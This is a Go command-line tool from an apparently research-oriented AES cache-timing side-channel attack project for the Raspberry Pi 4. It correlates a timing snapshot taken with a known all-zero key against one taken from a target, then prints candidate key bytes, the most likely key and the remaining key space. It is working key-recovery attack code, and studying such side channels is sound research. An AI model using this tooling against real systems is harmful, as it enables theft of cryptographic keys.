// Copyright 2019 Google LLC
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Correlates two stacked timing snapshots read from stdin and prints the
// retained key byte candidates.
//
// Phase 1 is a snapshot collected against a known key (all zeros), phase 2
// one collected against the target:
//
//	$ (tail -4096 study_zero.txt; tail -4096 study_target.txt) | go run ./cmd/correlate
//	  1  0 42
//	  3  1 7e 7f 7c
//	...
package main

import (
	"bufio"
	"encoding/hex"
	"flag"
	"os"

	cachetiming "github.com/jmpleo/aes-cache-timing-attack-pi4"
	"github.com/jmpleo/aes-cache-timing-attack-pi4/util"

	"github.com/golang/glog"
)

func init() {
	flag.Parse()
}

func main() {
	defer glog.Flush()

	if flag.NArg() > 0 {
		util.Exit(util.ExitUsage, "Unexpected arguments: %v", flag.Args())
	}

	r := cachetiming.NewSnapshotReader(bufio.NewReader(os.Stdin))
	phase1, err := r.Next()
	if err != nil {
		util.Exit(util.ExitUsage, "Failed reading phase 1 snapshot: %v", err)
	}
	phase2, err := r.Next()
	if err != nil {
		util.Exit(util.ExitUsage, "Failed reading phase 2 snapshot: %v", err)
	}
	glog.Infof("Loaded snapshots with %d / %d samples", phase1.Samples(), phase2.Samples())

	results := cachetiming.Correlate(phase1, phase2)
	for _, res := range results {
		glog.V(1).Infof("Best guess for index %d: %v", res.Index, res.Ranked[0])
	}

	w := bufio.NewWriter(os.Stdout)
	if err = cachetiming.WriteCandidates(w, results); err != nil {
		util.Exit(util.ExitStartup, "Failed writing candidates: %v", err)
	}
	if err = w.Flush(); err != nil {
		util.Exit(util.ExitStartup, "Failed writing candidates: %v", err)
	}

	glog.Infof("Most likely key: %v", hex.EncodeToString(cachetiming.BestKey(results)))
	glog.Infof("Remaining key space: 2^%.1f", cachetiming.KeySpaceBits(results))
}
